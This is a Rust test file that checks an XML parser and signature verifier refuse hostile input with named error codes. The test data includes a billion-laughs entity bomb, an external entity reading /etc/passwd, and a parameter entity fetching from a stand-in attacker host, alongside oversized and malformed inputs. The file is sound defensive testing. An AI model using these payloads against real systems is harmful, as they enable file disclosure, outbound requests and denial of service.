//! Input made to hurt: a clear refusal, little memory, no panic.

use proptest::prelude::*;
use tongguan_messages::xml::c14n::{self, Comments};
use tongguan_messages::xml::{Limits, Source};

/// The code of the refusal, or `None` when the bytes are taken.
fn refusal(bytes: &[u8]) -> Option<&'static str> {
    let source = match Source::read(bytes, &Limits::default()) {
        Ok(source) => source,
        Err(refusal) => return Some(refusal.rule().code),
    };
    let tree = match source.tree() {
        Ok(tree) => tree,
        Err(refusal) => return Some(refusal.rule().code),
    };
    c14n::document(&tree, Comments::Kept, None, |_| {});
    None
}

#[test]
fn hostile_input_is_named() {
    let laughs =
        "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><l>&b;</l>";
    let external = "<!DOCTYPE a SYSTEM \"file:///etc/passwd\"><a/>";
    let parameter = "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://attacker.invalid/x\">%p;]><a/>";
    let attributes = |count: usize| {
        let many: String = (0..count).map(|n| format!(" a{n}=''")).collect();
        format!("<a{many}/>")
    };
    let namespaces: String = (0..60).map(|n| format!(" xmlns:n{n}='urn:{n}'")).collect();
    for (input, code) in [
        (laughs.into(), "dtd-forbidden"),
        (external.into(), "dtd-forbidden"),
        (parameter.into(), "dtd-forbidden"),
        ("<a><!ENTITY x 'y'></a>".into(), "dtd-forbidden"),
        ("<a>&undefined;</a>".into(), "not-well-formed"),
        ("<a>".repeat(100_000), "nesting-too-deep"),
        ("<a>".repeat(65) + &"</a>".repeat(65), "nesting-too-deep"),
        (attributes(65), "too-many-attributes"),
        (attributes(1_000_000), "too-many-attributes"),
        (format!("<a{namespaces}/>"), "too-many-namespaces"),
        (format!("<a>{}</a>", "<b/>".repeat(3_000_000)), "too-much-markup"),
        (format!("<a>{}</a>", "=".repeat(3_000_000)), "too-much-markup"),
        (format!("<a><![CDATA[{}]]></a>", "<".repeat(30_000_000)), "too-much-markup"),
        (format!("<a>{}</a>", " ".repeat(100_000_000)), "message-too-large"),
        (format!("<a>{}</a>", "&#x9".repeat(1_000_000)), "not-well-formed"),
        (format!("<a>{}", "]]".repeat(1_000_000)), "not-well-formed"),
        (format!("<{}", "a".repeat(10_000_000)), "not-well-formed"),
        (format!("<a b='{}", "x".repeat(10_000_000)), "not-well-formed"),
        (format!("<a><!--{}", "-".repeat(10_000_000)), "not-well-formed"),
        ("<a>\u{1}</a>".into(), "illegal-character"),
        ("<a b='\u{1f}'/>".into(), "illegal-character"),
        ("<a>\u{fffe}</a>".into(), "illegal-character"),
        ("\0\0\0\0".into(), "not-well-formed"),
        ("</a>".repeat(1000), "not-well-formed"),
    ] {
        let head: String = input.chars().take(60).collect();
        assert_eq!(refusal(input.as_bytes()).unwrap_or("taken"), code, "{head}");
    }
    for (bytes, code) in [
        (&b"<a>\xff\xfe</a>"[..], "not-utf-8"),
        (b"\xff\xfe<\0a\0/\0>\0", "not-utf-8"),
        (b"<a>\xc0\xaf</a>", "not-utf-8"),
        (b"<a>\xed\xa0\x80</a>", "not-utf-8"),
        (b"<?xml version='1.0' encoding='UTF-16'?><a/>", "encoding-not-utf-8"),
        (b"<?xml version='1.0' encoding='UTF-7'?><a/>", "encoding-not-utf-8"),
    ] {
        assert_eq!(refusal(bytes), Some(code), "{bytes:?}");
    }
}

/// Whatever is nested, repeated or long in a signature costs linear time: any of these squared would
/// take hours.
#[test]
fn a_hostile_signature_is_answered_in_linear_time() {
    use crate::signing::signed;
    use tongguan_messages::signature::{SignatureDefect, Style};
    let message = signed(Style::SM2);
    let many = |piece: &str| piece.repeat(200_000);
    for (place, piece, expected) in [
        ("<ceb:note/>", many("<!---->"), None),
        ("<ceb:note/>", many("<?p?>"), Some(SignatureDefect::ContentChanged)),
        ("<ceb:note/>", many("<ds:KeyInfo xmlns:ds='u'/>"), Some(SignatureDefect::ContentChanged)),
        ("</ds:SignedInfo>", many("<!---->"), None),
        ("</ds:SignedInfo>", many("\n"), None),
        ("</ds:KeyInfo>", many("<ds:KeyName/>"), Some(SignatureDefect::Malformed("KeyName"))),
        ("</ds:X509Data>", many("<ds:X509Data/>"), None),
        ("</ds:X509Certificate>", many("A"), Some(SignatureDefect::Malformed("X509Certificate"))),
        ("</ds:SignatureValue>", many("AAAA"), Some(SignatureDefect::Malformed("SignatureValue"))),
        ("</ds:DigestValue>", many(" "), Some(SignatureDefect::ValueWrong)),
    ] {
        let hostile = message.replace(place, &(piece.clone() + place));
        let found = crate::world::verified(&hostile).err();
        assert_eq!(found, expected, "{} before {place}", &piece[..piece.len().min(20)]);
    }
}

#[test]
fn the_legal_maximum_is_taken() {
    let line = "<ceb:qty>1</ceb:qty>\n".repeat(30);
    let lines = format!("<ceb:List>{line}</ceb:List>").repeat(99);
    let documents = format!("<ceb:Order>{lines}</ceb:Order>").repeat(100);
    let message = format!("<ceb:M xmlns:ceb='http://www.chinaport.gov.cn/ceb'>{documents}</ceb:M>");
    assert_eq!(refusal(message.as_bytes()), None);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn any_bytes_are_answered(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        let _ = refusal(&bytes);
    }

    #[test]
    fn any_sequence_of_markup_is_answered(
        pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..30),
    ) {
        let _ = refusal(pieces.concat().as_bytes());
    }
}

const PIECES: &[&str] = &[
    "<a>",
    "</a>",
    "<a/>",
    "<",
    ">",
    "/",
    "a",
    ":",
    "=",
    "'",
    "\"",
    " ",
    "\r",
    "\n",
    "&",
    ";",
    "&amp;",
    "&#",
    "&#x",
    "10",
    "<!--",
    "-->",
    "--",
    "<![CDATA[",
    "]]>",
    "<?",
    "?>",
    "<?xml",
    " version='1.0'",
    "xmlns",
    "xmlns:a='u'",
    "xmlns=''",
    "<a:b ",
    "<!DOCTYPE",
    "测",
    "\u{feff}",
    "\0",
    " encoding='GBK'",
];
